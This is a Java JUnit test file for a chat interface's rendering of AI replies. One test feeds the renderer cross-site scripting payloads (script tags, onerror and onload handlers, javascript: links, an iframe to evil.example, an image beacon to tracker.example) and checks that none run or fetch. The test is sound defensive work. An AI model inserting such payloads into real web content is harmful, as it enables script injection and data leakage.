package dev.chela.web.internal;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import org.junit.jupiter.api.Test;

/** What an answer looks like, and what it cannot do. */
class AnswerTest extends PageTest {
    @Test
    void a_message_is_answered_in_streamed_markdown() {
        gateway.house.script = (session, run, message) -> session.say(run, "**Bold** and `code`:\n\n```java\nint a = 1; // one\n```");
        signIn();

        say("hello");

        browser.await("document.querySelector('.block-text:not(.live) pre')");
        assertThat(browser.evaluate("document.querySelector('.prose strong').textContent").asText()).isEqualTo("Bold");
        assertThat(browser.evaluate("document.querySelectorAll('.code-word, .code-comment, .code-number').length").asInt()).isEqualTo(3);
        assertThat(users()).containsExactly("hello");
        browser.await("document.querySelector('#announcer').innerText.includes('Bold')");
        assertThat(complaints()).isEmpty();
    }

    @Test
    void a_tool_call_is_one_card_that_opens_by_keyboard() {
        gateway.house.script = (session, run, message) -> {
            session.call(run, "t1", "exec", Map.of("command", "ls -la"), "Let me look.");
            session.result(run, "t1", "exec", "AGENTS.md\nSOUL.md", false);
            session.say(run, "Two files.");
        };
        signIn();

        say("run ls");

        browser.await("document.querySelector('.tool-card[data-status=done]') && document.querySelectorAll('.block-text:not(.live)').length === 2")
                .await("document.querySelector('.stop').hidden");
        assertThat(browser.evaluate("document.querySelectorAll('.tool-card').length").asInt()).isEqualTo(1);
        browser.evaluate("document.querySelector('.tool-card summary').focus()");
        browser.press("Enter").await("document.querySelector('.tool-card').open");
        assertThat(browser.text(".tool-card")).contains("ls -la").contains("SOUL.md");
        assertThat(browser.evaluate("[...document.querySelectorAll('.block')].map(b => b.className.match(/block-(\\w+)/)[1]).join()").asText())
                .isEqualTo("user,text,tool,text");
    }

    @Test
    void what_a_model_writes_can_neither_run_nor_fetch() {
        gateway.house.script = (session, run, message) -> session.say(run, String.join("\n\n",
                "<script>window.owned = 1</script>", "<img src=x onerror='window.owned = 2'>", "[link](javascript:window.owned=3)",
                "![secret](https://tracker.example/pixel.png?data=1)", "<style>body { display: none }</style>", "<iframe src='https://evil.example'></iframe>",
                "<svg onload='window.owned = 4'></svg>", "<a href='https://x.example' onclick='window.owned = 5'>ok</a>", "<form action='/x'><button>b</button></form>", "end"));
        signIn();

        say("attack");

        browser.await("document.querySelector('.block-text:not(.live)')?.innerText.includes('end')");
        assertThat(browser.evaluate("window.owned ?? 0").asInt()).isZero();
        assertThat(browser.evaluate("document.querySelectorAll('.prose :is(script, style, iframe, svg, form, button:not(.copy), img)').length").asInt()).isZero();
        assertThat(browser.evaluate("document.querySelectorAll('.prose [href^=javascript], .prose [onclick], .prose [onerror]').length").asInt()).isZero();
        assertThat(browser.text(".remote-image")).contains("secret").contains("tracker.example");
        assertThat(browser.evaluate("performance.getEntriesByType('resource').filter(r => !r.name.startsWith(location.origin)).length").asInt()).isZero();
    }

    @Test
    void the_answer_to_a_command_is_shown_although_no_transcript_holds_it() {
        gateway.house.script = (session, run, message) -> session.remark(run, "Commands: **/help**, /status");
        signIn();

        say("/help");

        browser.await("document.querySelector('.block-text strong')?.innerText === '/help'");
    }

    @Test
    void a_run_that_fails_says_why() {
        gateway.house.script = (session, run, message) -> session.fail(run, "The provider refused the key.");
        signIn();

        say("hello");

        browser.await("document.querySelector('.block-note.error[role=alert]')?.innerText.includes('refused the key')");
        browser.await("document.querySelector('.stop').hidden");
    }

    @Test
    void tables_keep_their_sides_lists_their_numbers_and_tasks_their_ticks() {
        gateway.house.script = (session, run, message) -> session.say(run, "| what | price |\n|---|---:|\n| snapshot | 12 |\n\n3. third\n4. fourth\n\n- [x] done\n- [ ] open");
        signIn();

        say("show me");

        browser.await("document.querySelector('.block-text:not(.live) table')");
        assertThat(browser.evaluate("getComputedStyle([...document.querySelectorAll('td')].at(-1)).textAlign").asText()).isEqualTo("right");
        assertThat(browser.evaluate("document.querySelector('ol').start").asInt()).isEqualTo(3);
        assertThat(browser.evaluate("[...document.querySelectorAll('.prose input')].map(i => i.type + i.checked + i.disabled).join()").asText())
                .isEqualTo("checkboxtruetrue,checkboxfalsetrue");
    }
}
